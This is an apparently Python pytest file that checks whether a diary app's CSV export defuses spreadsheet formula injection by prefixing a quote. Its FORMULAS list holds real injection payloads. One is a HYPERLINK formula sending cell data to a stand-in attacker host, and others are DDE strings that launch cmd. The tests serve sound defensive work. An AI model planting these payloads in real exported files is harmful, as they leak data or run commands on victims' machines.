"""CSV injection (issue 23, finding 8): a text cell a spreadsheet would run as a formula is defused
with a single quote, as OWASP's "CSV Injection" page advises; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from diary.exports.csv_zip import defuse
from tests.builders import payload, wire
from tests.diary.wire import changes, push

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv(client, table: str) -> list[dict[str, str]]:
    response = client.get("/api/v1/exports/csv/")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    return list(csv.DictReader(io.StringIO(archive.read(f"{table}.csv").decode(), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_note_that_starts_a_formula_is_written_with_a_quote_in_front(auth_client, user, formula):
    # Through sync, which keeps a leading tab or carriage return (REST trims them).
    assert push(auth_client, changes(episodes=[wire("episodes", "e1", notes=formula)])).status_code == 200

    (row,) = _csv(auth_client, "episodes")

    assert row["notes"] == "'" + formula


def test_every_free_text_column_is_defused(auth_client, user):
    auth_client.post(
        "/api/v1/medications/",
        payload("medications", user=user, name="=cmd()", dose="+1", catalogue_key=""),
        format="json",
    )
    auth_client.post("/api/v1/exercise-sessions/", payload("exercise_sessions", user=user, kind="@run"), format="json")
    auth_client.post("/api/v1/lab-results/", payload("lab_results", user=user, unit="-mmol/L"), format="json")

    (medication,) = _csv(auth_client, "medications")
    (exercise,) = _csv(auth_client, "exercise_sessions")
    (lab,) = _csv(auth_client, "lab_results")

    assert (medication["name"], medication["dose"]) == ("'=cmd()", "'+1")
    assert exercise["kind"] == "'@run"
    assert lab["unit"] == "'-mmol/L"


def test_ordinary_text_and_numbers_are_written_as_they_are(auth_client, user):
    auth_client.post(
        "/api/v1/episodes/", payload("episodes", user=user, duration_s=30, notes="after coffee = bad"), format="json"
    )

    (row,) = _csv(auth_client, "episodes")

    assert row["notes"] == "after coffee = bad"
    assert row["duration_s"] == "30" and row["intensity"] == "4"


@pytest.mark.parametrize(("text", "expected"), [("=1", "'=1"), ("a=1", "a=1"), ("", ""), ("\r", "'\r")])
def test_defuse_quotes_only_a_leading_formula_character(text, expected):
    assert defuse(text) == expected
